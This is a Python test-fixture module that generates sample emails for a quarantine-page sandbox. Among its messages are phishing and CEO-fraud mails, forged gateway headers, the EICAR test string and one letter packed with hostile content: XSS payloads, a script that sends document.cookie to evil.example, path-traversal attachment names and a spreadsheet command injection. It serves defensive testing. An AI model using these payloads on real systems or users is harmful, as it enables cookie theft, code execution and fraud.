"""The mail that the sandbox starts with: real messages, as bytes, with the headers that a gateway writes on top.

`special_mail` has one of every kind that a quarantine page must survive; `ordinary_mail` fills the other mailboxes. All
addresses are reserved ones (RFC 2606, RFC 5737), but for the free-mail services that people really write from.
"""

import base64
import quopri
import struct
import zlib
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from email.charset import QP, Charset
from email.header import Header
from email.utils import format_datetime, formataddr
from io import BytesIO
from random import Random
from zipfile import ZipFile, ZipInfo

from sandbox.names import domain_of

# In two pieces: a virus scanner that reads this file must not find the test virus in it.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LIMIT = 5.0
QUOTED = Charset("utf-8")
QUOTED.header_encoding = QP
TAGS = {"SPAM": b"[SPAM] ", "ADVERT": b"[WERBUNG] "}
BIG = 3_700_000  # bytes of a file that make 5 MB of mail


@dataclass(frozen=True)
class Letter:
    """One mail to come. `sender` and `subject` are headers as they go over the wire; an empty one is left out."""

    sender: bytes
    subject: bytes
    part: bytes
    score: float = 0.0
    reason: str = ""  # why it is held; without one, and below the limit, it is ordinary mail
    tests: str = "HTML_MESSAGE"
    spf: str = "pass"  # "" for a check that nobody made
    dkim: str = "pass"
    dmarc: str = "pass"
    mail_from: str = ""  # the envelope's domain, where it is not the sender's
    virus: str = ""
    message_id: str = ""
    extra: tuple[bytes, ...] = field(default=())


def deliver(letter: Letter, to: str, sent: datetime, random: Random) -> bytes:
    """The message as it is stored: the gateway's headers on top, then the sender's own, which may say anything."""
    shown = letter.sender.rpartition(b"<")[2].rstrip(b">").decode("ascii", "replace")
    domain = shown.rpartition("@")[2] or "unknown.invalid"
    envelope = letter.mail_from or domain
    client = f"198.51.100.{random.randrange(1, 255)}"
    checks = (
        ("spf", letter.spf, f"smtp.mailfrom={envelope}"),
        ("dkim", letter.dkim, f"header.d={envelope}"),
        ("dmarc", letter.dmarc, f"header.from={domain}"),
    )
    results = "; ".join(f"{name}={result} {about}" for name, result, about in checks if result)
    held = bool(letter.reason) or letter.score >= LIMIT
    lines = [f"X-Fuglu-ID: {random.getrandbits(128):032x}"]
    lines += [f"Authentication-Results: mx1.gateway.example; {results}"] if results else []
    lines += [f"Received-SPF: {letter.spf} client-ip={client}; envelope-from=<bounce@{envelope}>"] if letter.spf else []
    lines += [
        f"X-Spam-Score: {letter.score}",
        f"X-Spam-Status: {'Yes' if letter.score >= LIMIT else 'No'}, score={letter.score} required={LIMIT} tests={letter.tests}",
        f"X-Virus-Status: Infected ({letter.virus})" if letter.virus else "X-Virus-Status: Clean",
    ]
    lines += ["X-Spam-Flag: YES"] if held and letter.score >= LIMIT else []
    lines += [f"X-Quarantine-Reason: {letter.reason}"] if letter.reason else []
    moment = format_datetime(sent)
    lines += [
        f"Received: from mail.{envelope} ([{client}])\r\n\tby mx1.gateway.example with ESMTPS; {moment}",
        f"Date: {moment}",
        f"Message-ID: {letter.message_id or f'<{random.getrandbits(64):016x}@{envelope}>'}",
    ]
    head = [line.encode() for line in lines]
    head += [b"From: " + letter.sender] if letter.sender else []
    head += [b"To: " + to.encode("ascii")]
    head += [b"Subject: " + (TAGS.get(letter.reason, b"") if held else b"") + letter.subject] if letter.subject else []
    head += [*letter.extra, b"MIME-Version: 1.0"]
    return b"\r\n".join(head) + b"\r\n" + letter.part


def word(text: str, charset: str | Charset = "utf-8") -> bytes:
    """A header text as encoded words, where it needs them."""
    return text.encode() if text.isascii() else Header(text, charset, maxlinelen=70).encode(linesep="\r\n").encode()


def person(name: str, address: str) -> bytes:
    """A From or To header."""
    return formataddr((name, address)).encode()


def text(body: str, kind: str = "plain", charset: str = "utf-8") -> bytes:
    """A part to read."""
    head = f"Content-Type: text/{kind}; charset={charset}\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
    lines = body.strip().replace("\n", "\r\n") + "\r\n"
    return head.encode() + quopri.encodestring(lines.encode(charset)).replace(b"=0D\n", b"\r\n")


def html(body: str, charset: str = "utf-8") -> bytes:
    return text(f"<html><body>{body}</body></html>", "html", charset)


def attachment(name: str, media_type: str, data: bytes, *extra: str) -> bytes:
    """A part that is a file. `name` is written as it is, quotes escaped."""
    quoted = name.replace("\\", r"\\").replace('"', r"\"")
    disposition = () if extra else (f'Content-Disposition: attachment; filename="{quoted}"',)
    lines = [f'Content-Type: {media_type}; name="{quoted}"', "Content-Transfer-Encoding: base64", *disposition, *extra, "", ""]
    return "\r\n".join(lines).encode() + base64.encodebytes(data).replace(b"\n", b"\r\n")


def multipart(kind: str, *parts: bytes) -> bytes:
    boundary = f"=_{zlib.crc32(b''.join(parts)):08x}"
    head = f'Content-Type: multipart/{kind}; boundary="{boundary}"\r\n\r\n'.encode()
    line = f"--{boundary}".encode()
    return head + b"".join(line + b"\r\n" + part + b"\r\n" for part in parts) + line + b"--\r\n"


def pdf(title: str) -> bytes:
    """The least that a reader takes for a PDF of one empty page."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>endobj\n"
        b"4 0 obj<</Title(" + title.encode("ascii") + b")>>endobj\ntrailer<</Root 1 0 R/Info 4 0 R>>\n%%EOF\n"
    )


def archive(**files: bytes) -> bytes:
    """A ZIP file, the same bytes every time."""
    out = BytesIO()
    with ZipFile(out, "w") as zipped:
        for name, data in files.items():
            zipped.writestr(ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def png(red: int, green: int, blue: int) -> bytes:
    """A picture of one dot."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    dot = zlib.compress(bytes([0, red, green, blue]))
    size = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", dot) + chunk(b"IEND", b"")


HOSTILE_TEXT = '"><script>alert(1)</script><img src=x onerror=alert(2)>'
HOSTILE_HTML = """
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">
<link rel="stylesheet" href="http://tracker.example/style.css">
<style>@import url(http://tracker.example/import.css); body { background: url(http://tracker.example/back.png) }</style>
<h1 onclick="alert('h1')" style="position:fixed;inset:0;background:url('http://tracker.example/h1.png')">Ihr Konto läuft ab</h1>
<script>document.title = 'owned'; fetch('http://evil.example/steal?' + document.cookie)</script>
<img src="http://tracker.example/pixel.gif?anna.keller" width="1" height="1"><img src=x onerror="alert('img')">
<svg onload="alert('svg')"><a xlink:href="javascript:alert('xlink')"><text y="20">svg</text></a></svg>
<math><mtext><table><mglyph><style><img src onerror=alert('mutation')></style></mglyph></table></mtext></math>
<iframe src="http://evil.example/frame" srcdoc="<script>alert('frame')</script>"></iframe>
<object data="http://evil.example/object"></object><embed src="http://evil.example/embed">
<form action="http://evil.example/login"><input name="password" type="password" autofocus onfocus="alert('focus')">
<button>Anmelden</button></form>
<a href="javascript:alert('link')">Hier klicken</a> <a href="JaVa&#x09;Script:alert('tab')">oder hier</a>
<a href="data:text/html,<script>alert('data')</script>">oder da</a> <a href="http://evil.example/" target="_top">https://www.nordwind.example/</a>
<template><script>alert('template')</script></template><details open ontoggle="alert('toggle')">x</details>
<p id="csrf" name="cookie">Text, der bleiben darf.</p>
"""

PHISH_HOST = str(domain_of("nordwínd.example"))  # what a reader takes for nordwind.example
BROKEN_MIME = (
    b'Content-Type: multipart/mixed; boundary="never-ends"\r\n\r\n'
    b"--never-ends\r\nContent-Type: text/plain; charset=x-klingon\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    b"Sehr geehrte Damen und Herren, das ist kein UTF-8: \xe4\xf6\xfc \xff\r\n"
    b'--never-ends\r\nContent-Type: application/pdf; name="=?utf-8?B?kaputt"\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\n!!! kein base64 !!!\r\nJVBERi0xLjQ"
)


def special_mail(random: Random) -> list[tuple[timedelta, Letter]]:
    """One held mail of every kind, with its age; the newest is the one that a helpdesk is called about."""
    newsletter = """<h1>Herbstangebote</h1><p>Bis zu 40&nbsp;% auf Paletten und Ladungssicherung.</p>
        <img src="http://news.paletten-profi.example/open.gif?id=8812" width="1" height="1" alt="">
        <p><a href="http://news.paletten-profi.example/unsubscribe?id=8812">Abmelden</a></p>"""
    return [
        (timedelta(minutes=25), Letter(
            person("Rheintal Papier AG", "rechnung@rheintal-papier.example"),
            word("Rechnung R-48213 zu Ihrer Bestellung 7715"),
            multipart("mixed", html(
                "<p>Guten Tag Frau Keller</p><p>Im Anhang finden Sie die Rechnung <b>R-48213</b> über CHF 1'284.50,"
                " zahlbar innert 30 Tagen.</p><p>Freundliche Grüsse<br>Rheintal Papier AG</p>",
            ), attachment("Rechnung-R-48213.pdf", "application/pdf", pdf("Rechnung R-48213"))),
            score=5.4, reason="SPAM", tests="BAYES_50,HTML_MESSAGE,MIME_HTML_ONLY,T_INVOICE",
        )),
        (timedelta(hours=2), Letter(
            person("Nordwind IT-Support", "support@nordw1nd.example"),
            word("Ihr Passwort läuft in 24 Stunden ab", "iso-8859-1"),
            html(
                "<p>Sehr geehrte Mitarbeiterin, sehr geehrter Mitarbeiter</p><p>Bitte bestätigen Sie Ihr Passwort:</p>"
                f'<p><a href="http://{PHISH_HOST}/login">https://portal.nordwind.example/login</a></p>'
                f'<p>oder <a href="http://203.0.113.80/nordwind.example/login.php">hier</a>.</p>', "iso-8859-1",
            ),
            score=14.8, reason="SPAM", spf="fail", dkim="", dmarc="fail", mail_from="bulk.sender.example",
            tests="BAYES_99,BAYES_999,FROM_LOOKALIKE,HTML_MESSAGE,SPF_FAIL,URI_PUNYCODE,URI_TEXT_MISMATCH",
            extra=(b"Reply-To: helpdesk.nordwind@gmail.com", b"Importance: high"),
        )),
        (timedelta(hours=5), Letter(
            person("Martin Nordwind", "martin.nordwind@nordwind.example"),
            word("Vertraulich: dringende Überweisung noch heute", QUOTED),
            text("Liebe Anna\n\nIch sitze im Flugzeug. Bitte überweise EUR 48'700 an den neuen Partner, die Kontonummer\n"
                 "kommt gleich. Ruf mich nicht an.\n\nMartin\n"),
            score=8.9, reason="SENDER_VERIFY", spf="softfail", dkim="none", dmarc="fail", mail_from="mailer.evil.example",
            tests="BAYES_80,CEO_FRAUD,FREEMAIL_FORGED_REPLYTO,SPF_SOFTFAIL",
            # What the sender wrote himself, below the gateway's own headers: nobody may believe it.
            extra=(
                b"Authentication-Results: mx1.gateway.example; spf=pass smtp.mailfrom=nordwind.example; dmarc=pass",
                b"X-Spam-Status: No, score=-5.0 required=5.0", b"X-Fuglu-ID: 00000000000000000000000000000000",
                b"Reply-To: martin.nordwind.ceo@gmail.com",
            ),
        )),
        (timedelta(hours=9), Letter(
            b'"ceo@nordwind.example" <x@evil.example>', word("Re: Ihre Anfrage"),
            text("Kannst du kurz antworten? Danke!\n"),
            score=6.3, reason="SPAM", dkim="none", dmarc="none", tests="BAYES_60,FROMNAME_SPOOF",
        )),
        (timedelta(hours=20), Letter(
            person("Lukas Brunner", "lukas.brunner.87@gmail.com"), word("Bewerbung als Disponent"),
            multipart(
                "mixed", text("Sehr geehrte Frau Keller\n\nAnbei meine Unterlagen.\n\nFreundliche Grüsse\nLukas Brunner\n"),
                attachment("Lebenslauf Brunner.pdf", "application/pdf", pdf("Lebenslauf")),
                attachment("Zeugnisse.zip", "application/zip", archive(**{"Zeugnis 2019.pdf": pdf("Zeugnis")})),
            ),
            score=5.9, reason="SPAM", tests="BAYES_50,FREEMAIL_FROM,FREEMAIL_ENVFROM_END_DIGIT,HTML_MESSAGE",
        )),
        (timedelta(days=1, hours=3), Letter(
            person("Fournitures Dubois", "facture@fournitures-dubois.example"), word("Facture impayée n° 2231", "iso-8859-1"),
            multipart("mixed", text("Veuillez trouver ci-joint la facture.\n"),
                      attachment("facture_2231.pdf.com", "application/octet-stream", EICAR)),
            score=11.2, reason="VIRUS", virus="Eicar-Test-Signature", spf="none", dkim="none", dmarc="none",
            tests="BAYES_95,CLAMAV",
        )),
        (timedelta(days=1, hours=8), Letter(
            person("Paletten-Profi", "news@paletten-profi.example"), word("Nur diese Woche: 40 % auf Paletten – jetzt zugreifen"),
            multipart("alternative", text("Herbstangebote: bis zu 40 % auf Paletten.\n"), html(newsletter)),
            score=3.1, reason="ADVERT", tests="BAYES_40,HTML_IMAGE_RATIO_04,HTML_MESSAGE,LIST_UNSUBSCRIBE",
            extra=(b"List-Unsubscribe: <http://news.paletten-profi.example/unsubscribe?id=8812>", b"Precedence: bulk"),
        )),
        (timedelta(days=2), Letter(
            word(HOSTILE_TEXT) + b" <kundendienst@evil.example>", b"=?utf-8?q?" + HOSTILE_TEXT.replace(" ", "_").encode() + b"?=",
            multipart(
                "mixed", html(HOSTILE_HTML),
                attachment(HOSTILE_TEXT + ".html", "text/html", b"<script>alert(document.domain)</script>"),
                attachment("../../../etc/cron.d/owned", "text/plain", b"* * * * * root true\n"),
                attachment("..\\..\\windows\\system32\\evil.svg", "image/svg+xml", b'<svg xmlns="x" onload="alert(1)"/>'),
                attachment("../../../etc/cron.d/owned", "text/plain", b"twice\n"),
                attachment("=HYPERLINK(\"http://evil.example\",\"x\").csv", "text/csv", b"=cmd|' /C calc'!A0\r\n"),
            ),
            score=22.6, reason="SPAM", spf="fail", dkim="fail", dmarc="fail", tests="BAYES_999,HTML_OBFUSCATE,JS_IN_MAIL",
        )),
        (timedelta(days=2, hours=6), Letter(
            person("Atelier Lumière", "bonjour@atelier-lumiere.example"), word("Votre carton d’invitation – soirée d’ouverture"),
            multipart(
                "related",
                html('<p>Chère Anna,</p><img src="cid:logo@atelier-lumiere.example" alt="Logo"><p>À bientôt&nbsp;!</p>'),
                attachment("logo.png", "image/png", png(224, 96, 32), "Content-ID: <logo@atelier-lumiere.example>",
                           'Content-Disposition: inline; filename="logo.png"'),
            ),
            score=5.1, reason="SPAM", tests="BAYES_50,HTML_IMAGE_ONLY_08,HTML_MESSAGE",
        )),
        (timedelta(days=3), Letter(
            person("Zentraler Scanner 3. OG", "scanner@copyshop-olten.example"), word("Scan vom Kopierer (5 MB)"),
            multipart("mixed", text("Ihr Scan.\n"), attachment("Scan-0001.tif", "image/tiff", random.randbytes(BIG))),
            score=5.6, reason="SPAM", dkim="none", dmarc="none", tests="BAYES_50,BIG_ATTACHMENT",
        )),
        (timedelta(days=3, hours=7), Letter(
            person("Spedition Huber", "dispo@spedition-huber.example"), word("Tourenplan KW 48 (Excel)"),
            multipart(
                "mixed", html("<p>Der Tourenplan.</p>"),
                attachment("Tourenplan.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                           archive(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"})),
                attachment("makro.js", "text/javascript", b"WScript.Echo('hallo');\r\n"),
            ),
            score=2.2, reason="BAD_ATTACHMENTS", tests="BAYES_00,HTML_MESSAGE",
        )),
        (timedelta(days=4), Letter(
            person("Altes System", "noreply@altsystem.example"), "Kaputte Kodierung äöü".encode("latin-1"), BROKEN_MIME,
            score=4.4, reason="BAD_ENCODING", dkim="", dmarc="", tests="BAYES_20,MIME_BAD_HEADER,MISSING_MIME_END",
        )),
        (timedelta(days=5), Letter(
            person("鈴木一郎", "suzuki@tokyo-logi.example"), word("お見積りのご案内", "iso-2022-jp"),
            text("アンナ様\n\nお見積りをお送りいたします。\n", charset="iso-2022-jp"), score=6.6, reason="SPAM",
            tests="BAYES_50,CHARSET_FARAWAY",
        )),
        (timedelta(days=5, hours=5), Letter(
            person("", "kontakt@ohne-betreff.example"), b"", text("Diese Mail hat keinen Betreff.\n"),
            score=5.2, reason="SPAM", tests="BAYES_50,MISSING_SUBJECT",
        )),
        (timedelta(days=6), Letter(
            b"", word("Wer hat das geschrieben?"), text("Diese Mail hat keinen Absender.\n"),
            reason="BAD_HEADERS", score=3.9, spf="none", dkim="", dmarc="", tests="MISSING_FROM",
        )),
        (timedelta(days=7), Letter(
            person("Schlagwort GmbH", "info@schlagwort.example"), b"Donaudampfschifffahrtsgesellschaftskapitaen" * 18,
            text("Ein Betreff ohne Leerzeichen.\n"), score=7.7, reason="SPAM", tests="BAYES_80,LONG_SUBJECT",
        )),
        (timedelta(days=8), Letter(
            person("Onlineshop Seeblick", "bestellung@seeblick-shop.example"), word("Bestellbestätigung 2026/118/4"),
            text("Vielen Dank für Ihre Bestellung.\n"), score=5.0, reason="SPAM", tests="BAYES_50",
            message_id="<orders/2026/118/4?confirm=1&lang=de@seeblick-shop.example>",
        )),
        (timedelta(days=9), Letter(
            person("Ancien serveur", "postmaster@vieux-serveur.example"), word("Réunion du 12 : compte rendu", "iso-8859-1"),
            html("<p>Le compte rendu de la réunion, en français&nbsp;: été, cœur, garçon.</p>"), score=5.7, reason="SPAM",
            tests="BAYES_50,MSGID_UNUSUAL", message_id="<%2e%2e#[a b]\\é+'\"@vieux-serveur.example>",
        )),
        (timedelta(days=10), Letter(
            person("Gewinnspiel Zentrale", "gewinn@lotterie.example"), word("Sie haben gewonnen! 🎉 CHF 500'000"),
            html('<p>Holen Sie Ihren <a href="http://lotterie.example/gewinn">Gewinn</a>!</p>'),
            score=18.3, reason="", spf="neutral", dkim="none", dmarc="none", tests="BAYES_99,LOTTO_AGENT,HTML_MESSAGE",
        )),
        (timedelta(days=11), Letter(
            person("Leads & More", "promo@leads-and-more.example"), word("100'000 Adressen zum Sonderpreis"),
            text("Jetzt kaufen.\n"), score=1.4, reason="BLACKLISTED", tests="USER_IN_BLOCKLIST",
        )),
        (timedelta(days=12), Letter(
            person("Peter Frei", "peter.frei@frei-treuhand.example"), word("WG: Jahresabschluss"),
            multipart(
                "mixed", text("Siehe die angehängte Mail.\n"),
                b"Content-Type: message/rfc822\r\nContent-Disposition: attachment\r\n\r\n"
                b"From: steueramt@kanton.example\r\nSubject: Fristerstreckung\r\n\r\nBewilligt.\r\n",
            ),
            score=5.3, reason="SPAM", spf="", dkim="", dmarc="", tests="BAYES_50",
        )),
        (timedelta(days=14), Letter(
            person("Søren Ørsted", "soren@baltic-line.example"), "Tilbud på færge – rå bytes æøå".encode(),
            text("Kære Anna\n\nVedhæftet vores tilbud.\n"), score=5.5, reason="SPAM", tests="BAYES_50,SUBJ_ILLEGAL_CHARS",
        )),
    ]


# Subject; the sender's name and address; text; why it is held, its score, and how the checks went.
BULK = (
    ("Ihr Paket wartet auf Sie", "Paketdienst", "zustellung@paket-info.example",
     "Bitte zahlen Sie CHF 2.99 Zollgebühr.", "SPAM", 12.4, "fail"),
    ("Votre colis est bloqué à la douane", "Service Colis", "colis@suivi-colis.example",
     "Réglez les frais de 1,99 €.", "SPAM", 13.1, "fail"),
    ("Verdienen Sie 4'000 Franken von zu Hause", "Nebenjob", "job@schnell-reich.example",
     "Ohne Vorkenntnisse!", "SPAM", 9.8, "none"),
    ("Newsletter: Neues aus der Logistik", "Logistik Heute", "news@logistik-heute.example",
     "Die Themen der Woche.", "ADVERT", 2.8, "pass"),
    ("Soldes d’automne : -50 %", "Mode & Maison", "promo@mode-maison.example", "Profitez-en !", "ADVERT", 3.4, "pass"),
    ("Vind en ny cykel", "Cykelklubben", "nyt@cykelklub.example",
     "Deltag i konkurrencen på få sekunder.", "ADVERT", 2.1, "pass"),
    ("Oferta especial para su empresa", "Ofertas Ñandú", "ventas@ofertas-nandu.example",
     "Tóner al mejor precio.", "SPAM", 6.7, "softfail"),
    ("Re: Re: Angebot Büromöbel", "Büro Weiß", "verkauf@buero-weiss.example", "Unser Angebot im Anhang.", "SPAM", 5.2, "pass"),
    ("Crypto: your wallet is waiting", "Coin Desk", "desk@coin-fortune.example", "Claim 0.4 BTC now.", "SPAM", 16.0, "fail"),
    ("Einladung zum Webinar: Zoll 2027", "Zollakademie", "seminar@zollakademie.example",
     "Kostenlos und online.", "ADVERT", 3.0, "pass"),
    ("Mahnung 3. Stufe", "Inkasso Süd", "mahnung@inkasso-sued.example", "Zahlen Sie sofort.", "SPAM", 8.1, "softfail"),
    ("Votre abonnement expire", "Streaming Plus", "compte@streaming-plus.example",
     "Mettez à jour votre carte.", "SPAM", 10.5, "fail"),
    ("Rabatt auf Druckerpatronen", "Tinten-König", "info@tinten-koenig.example", "Nur heute.", "BLACKLISTED", 4.0, "pass"),
)
CLEAN = (
    ("Protokoll der Teamsitzung", "Im Anhang das Protokoll von heute Morgen."),
    ("Mittagessen am Donnerstag?", "Um zwölf vor dem Haupteingang?"),
    ("Ferienplan bis Jahresende", "Bitte tragt eure Ferien bis Freitag ein."),
    ("Compte rendu – réunion fournisseurs", "Merci à tous, voici le résumé."),
    ("Neue Türcodes ab Montag", "Die Codes liegen am Empfang."),
)


def bulk_mail(random: Random) -> Letter:
    """Something that lands in any quarantine."""
    subject, name, address, body, reason, score, checks = random.choice(BULK)
    return Letter(
        person(name, address), word(f"{subject} [{random.randrange(1000, 10000)}]"), html(f"<p>{body}</p>"),
        score=round(score + random.uniform(-0.2, 1.5), 1), reason=reason,
        tests="BAYES_99,HTML_MESSAGE" if score >= LIMIT else "BAYES_40,HTML_MESSAGE",
        spf=checks, dkim="pass" if checks == "pass" else "none", dmarc=checks if checks in ("pass", "fail") else "none",
    )


def clean_mail(random: Random, name: str, address: str) -> Letter:
    """Something between colleagues."""
    subject, body = random.choice(CLEAN)
    return Letter(person(name, address), word(subject), text(body + "\n"), score=-1.9, tests="ALL_TRUSTED,BAYES_00")
